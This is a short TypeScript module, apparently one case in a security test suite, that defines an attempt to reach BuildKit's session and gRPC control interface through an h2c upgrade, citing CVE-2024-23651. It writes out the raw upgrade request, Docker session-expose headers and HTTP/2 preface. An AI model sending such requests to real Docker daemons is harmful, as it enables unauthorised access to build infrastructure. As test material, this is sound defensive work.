import { type Attempt, each, request, v } from './book';

export const attempt: Attempt = {
  title: 'speak to BuildKit itself, which asks for nobody’s rights',
  source: 'CVE-2024-23651 and its family: a control interface behind an upgrade',
  try: (world) =>
    each(['/session', '/grpc'], (path) =>
      world.send(Buffer.concat([request(`POST ${v}${path} HTTP/1.1`, [`Host: ${world.address}`, 'Connection: Upgrade', 'Upgrade: h2c',
        'X-Docker-Expose-Session-Uuid: x', 'X-Docker-Expose-Session-Name: x']), Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')]))),
};
